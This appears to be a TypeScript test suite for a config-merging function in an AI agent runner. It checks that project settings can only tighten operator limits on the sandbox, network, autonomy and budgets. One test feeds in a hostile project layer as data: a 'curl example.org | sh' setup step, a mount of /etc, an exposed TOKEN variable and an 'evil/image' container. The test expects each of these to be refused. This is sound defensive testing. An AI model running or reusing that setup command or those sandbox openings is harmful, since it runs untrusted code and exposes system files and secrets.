import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { mergeConfig } from "./config.ts";
import type { ConfigLayer } from "./config-shape.ts";

const MACHINE = { maxParallel: 4 };
const GIB = 1024 ** 3;
const merge = (operator: ConfigLayer, project: ConfigLayer) => mergeConfig(operator, project, MACHINE);

describe("mergeConfig", () => {
  it("has a default for everything", () => {
    expect(merge({}, {})).toMatchInlineSnapshot(`
      {
        "config": {
          "agentTimeoutMs": 3600000,
          "autonomy": {
            "confidence": {
              "log": 0.7,
              "proceed": 0.9,
            },
            "projectRules": {},
            "rules": {},
            "tier": "balanced",
          },
          "base": null,
          "budget": {
            "run": {
              "microUsd": null,
              "tokens": null,
            },
            "task": {
              "microUsd": null,
              "tokens": null,
            },
            "toolCalls": 300,
            "workstream": {
              "microUsd": null,
              "tokens": null,
            },
          },
          "disk": {
            "maxBytes": 21474836480,
            "minFreeBytes": 1073741824,
          },
          "estimate": {
            "highMs": 60000,
            "lowMs": 5000,
          },
          "gates": {},
          "handoffs": "producer",
          "maxParallel": 4,
          "me": null,
          "order": [],
          "overlaps": "queue",
          "policy": "dependency_first",
          "resources": {},
          "roles": {},
          "routing": {
            "cheaper": {},
            "executor": null,
            "executors": {},
            "fallbacks": {},
            "routes": {},
          },
          "sandbox": {
            "container": null,
            "env": [],
            "level": null,
            "mounts": [],
            "network": "off",
          },
          "setup": null,
          "specs": [],
          "taskRounds": 2,
          "taskStuckMs": 600000,
          "taskTimeoutMs": 300000,
          "watch": {
            "disk": {
              "level": "critical",
              "maxBytes": null,
            },
            "errorRate": {
              "level": "critical",
              "limit": 50,
              "sample": 10,
            },
            "everyMs": 15000,
            "memory": {
              "level": "critical",
              "maxBytes": null,
              "minFreeBytes": 67108864,
            },
            "progress": {
              "afterMs": 1200000,
            },
            "tokens": {
              "red": 85,
              "warn": 75,
            },
          },
          "workflow": "tasks",
        },
        "refused": [],
      }
    `);
  });

  it("takes from the project what belongs to it", () => {
    const project: ConfigLayer = {
      base: "develop",
      specs: ["rfcs", "shared"],
      gates: { lint: "make lint", types: false },
      setup: "make deps",
      order: ["b", "a"],
      policy: "user_defined",
      resources: { gpu: 2 },
      taskTimeout: 60_000,
      estimate: { low: 1_000 },
    };
    const { config, refused } = merge({ base: "main", specs: ["shared"], estimate: { high: 500 } }, project);
    expect(refused).toEqual([]);
    expect(config).toMatchObject({
      base: "develop",
      specs: ["shared", "rfcs"],
      gates: { lint: "make lint", types: false },
      setup: "make deps",
      order: ["b", "a"],
      policy: "user_defined",
      resources: { gpu: 2 },
      taskTimeoutMs: 60_000,
      agentTimeoutMs: 60_000,
      // A range is never turned around by two files that each give one end.
      estimate: { lowMs: 1_000, highMs: 1_000 },
    });
  });

  it.each([
    ["branch", "ask", "ask", []],
    ["ask", "branch", "ask", ["overlaps"]],
    [undefined, "branch", "queue", ["overlaps"]],
    ["branch", undefined, "branch", []],
  ] as const)(
    "keeps apart what writes the same paths as %s of the operator and %s of the project say",
    (operator, project, overlaps, keys) => {
      const { config, refused } = merge({ overlaps: operator }, { overlaps: project });
      expect(config.overlaps).toBe(overlaps);
      expect(refused.map(({ key }) => key)).toEqual(keys);
    },
  );

  it("gives a role to those in both lists, and leaves out who the reader is", () => {
    const { config, refused } = merge(
      { me: "dana", roles: { reviewer: ["dana", "sam"], release: ["dana"] } },
      { me: "kim", roles: { reviewer: ["sam", "kim"], design: ["kim"] } },
    );
    expect([config.me, config.roles]).toEqual([
      "dana",
      { design: ["kim"], release: ["dana"], reviewer: ["sam"] },
    ]);
    expect(refused).toEqual([
      { key: "me", reason: "only the operator's config says who that is" },
      {
        key: "roles.reviewer",
        reason: "a project can only take names away: kim is not in the operator's",
      },
    ]);
  });

  it("lets a project tighten", () => {
    const operator: ConfigLayer = {
      maxParallel: 8,
      sandbox: { network: "open", level: "process" },
      resources: { gpu: 4 },
      taskTimeout: 60_000,
    };
    const project: ConfigLayer = {
      maxParallel: 2,
      sandbox: { network: "off", level: "bubblewrap" },
      resources: { gpu: 1 },
      taskTimeout: 1_000,
      disk: { maxBytes: GIB, minFreeBytes: 5 * GIB },
    };
    const { config, refused } = merge(operator, project);
    expect(refused).toEqual([]);
    expect(config).toMatchObject({
      maxParallel: 2,
      sandbox: { network: "off", level: "bubblewrap" },
      resources: { gpu: 1 },
      taskTimeoutMs: 1_000,
      disk: { maxBytes: GIB, minFreeBytes: 5 * GIB },
    });
  });

  it("refuses a project that loosens, and says what and why", () => {
    const project: ConfigLayer = {
      maxParallel: 64,
      policy: "fifo",
      setup: "curl example.org | sh",
      gates: { tests: "true", lint: false, own: "make own" },
      resources: { gpu: 9 },
      taskTimeout: 3_600_000,
      disk: { maxBytes: 99 * GIB, minFreeBytes: 1 },
      sandbox: {
        network: "open",
        level: "process",
        mounts: ["/etc"],
        env: ["TOKEN"],
        container: { image: "evil/image" },
      },
    };
    const operator: ConfigLayer = {
      policy: "dependency_first",
      setup: false,
      gates: { tests: "npm test", lint: "npm run lint" },
      resources: { gpu: 1 },
      taskTimeout: 60_000,
    };
    const { config, refused } = merge(operator, project);
    const { gates, resources, ...rest } = merge(operator, {}).config;
    expect(config).toEqual({ ...rest, gates: { ...gates, own: "make own" }, resources });
    expect(refused.map(({ key, reason }) => `${key}: ${reason}`)).toMatchInlineSnapshot(`
      [
        "taskTimeout: a project can only lower it: 60 s stays, the project asks for 3600 s",
        "maxParallel: a project can only lower it: 4 stays, the project asks for 64",
        "policy: the operator's config says dependency_first",
        "gates.tests: the operator's config has a gate of this name",
        "gates.lint: the operator's config has a gate of this name",
        "setup: the operator's config says false",
        "resources.gpu: a project can only lower it: 1 stays, the project asks for 9",
        "disk.minFreeBytes: a project can only raise it: 1 GiB stays, the project asks for 1 bytes",
        "disk.maxBytes: a project can only lower it: 20 GiB stays, the project asks for 99 GiB",
        "sandbox.mounts: only the operator's config can open it",
        "sandbox.env: only the operator's config can open it",
        "sandbox.container: only the operator's config names an image",
        "sandbox.network: a project can only close it, and it is off",
        "sandbox.level: a project can only raise it: the best that works stays",
      ]
    `);
  });

  it("lets a project take package registries away, by word or by host, and add none", () => {
    const network = (...allow: string[]): ConfigLayer => ({ sandbox: { network: { allow } } });
    const all = merge(network("packages:all"), network("packages:go"));
    expect(all.refused).toEqual([]);
    expect(all.config.sandbox.network).toEqual({ allow: ["proxy.golang.org:443", "sum.golang.org:443"] });
    const more = merge(network("packages:npm"), network("packages:pypi", "registry.npmjs.org:443"));
    expect(more.config.sandbox.network).toEqual({ allow: ["registry.npmjs.org:443"] });
    expect(more.refused).toMatchObject([{ key: "sandbox.network" }]);
    expect(merge({}, network("packages:npm")).config.sandbox.network).toBe("off");
  });

  it("lets a project tighten what agents may do, never loosen it", () => {
    const { config, refused } = merge(
      {
        autonomy: { tier: "autonomous", rules: { edit: { level: "supervised" } }, confidence: { log: 0.8 } },
      },
      {
        autonomy: {
          tier: "full_auto",
          rules: { edit: { level: "full" }, delete: { level: "supervised" }, execute: { level: "ask" } },
          confidence: { proceed: 0.5, log: 0.95 },
        },
      },
    );
    expect(config.autonomy).toMatchObject({ tier: "autonomous", confidence: { proceed: 0.95, log: 0.95 } });
    expect(refused.map(({ key, reason }) => `${key}: ${reason}`)).toEqual([
      "autonomy.rules.edit: a project can only tighten it: supervised stays, the project asks for full",
      "autonomy.rules.delete: a project can only tighten it: ask stays, the project asks for supervised",
      "autonomy.tier: a project can only tighten it: autonomous stays, the project asks for full_auto",
      "autonomy.confidence.proceed: a project can only raise it: 0.9 stays, the project asks for 0.5",
    ]);
    expect(merge({}, { autonomy: { tier: "supervised" } }).config.autonomy.tier).toBe("supervised");
  });

  it("is silent about a project that says the same as the operator", () => {
    const layer: ConfigLayer = { policy: "fifo", setup: "make", gates: { tests: { command: "make test" } } };
    expect(merge(layer, structuredClone(layer)).refused).toEqual([]);
  });

  it("never gives a project more than the operator alone would have", () => {
    const layer: fc.Arbitrary<ConfigLayer> = fc.record(
      {
        maxParallel: fc.option(fc.integer({ min: 1, max: 256 })),
        disk: fc.option(
          fc.record(
            { maxBytes: fc.option(fc.nat({ max: 1e12 })), minFreeBytes: fc.option(fc.nat({ max: 1e12 })) },
            { requiredKeys: [] },
          ),
        ),
        sandbox: fc.option(
          fc.record(
            {
              level: fc.option(
                fc.constantFrom("bubblewrap" as const, "process" as const, "container" as const),
              ),
              network: fc.option(fc.constantFrom("off" as const, "open" as const)),
              mounts: fc.option(fc.array(fc.constantFrom("/a", "~/b"))),
              env: fc.option(fc.array(fc.constantFrom("A", "B"))),
              container: fc.option(fc.record({ image: fc.constantFrom("a", "b:1") })),
            },
            { requiredKeys: [] },
          ),
        ),
        gates: fc.option(
          fc.dictionary(fc.constantFrom("tests", "lint"), fc.constantFrom("a", "b", false as const)),
        ),
      },
      { requiredKeys: [] },
    );
    const ranks = ["process", null, "bubblewrap", "container"];
    fc.assert(
      fc.property(layer, layer, (operator, project) => {
        const alone = merge(operator, {}).config;
        const both = merge(operator, project).config;
        expect(both.maxParallel).toBeLessThanOrEqual(alone.maxParallel);
        expect(both.disk.maxBytes).toBeLessThanOrEqual(alone.disk.maxBytes);
        expect(both.disk.minFreeBytes).toBeGreaterThanOrEqual(alone.disk.minFreeBytes);
        expect(ranks.indexOf(both.sandbox.level)).toBeGreaterThanOrEqual(ranks.indexOf(alone.sandbox.level));
        if (alone.sandbox.network === "off") expect(both.sandbox.network).toBe("off");
        expect([both.sandbox.mounts, both.sandbox.env]).toEqual([alone.sandbox.mounts, alone.sandbox.env]);
        expect(both.sandbox.container).toEqual(alone.sandbox.container);
        expect(both.gates).toMatchObject(alone.gates);
      }),
      { numRuns: 1000 },
    );
  });
});
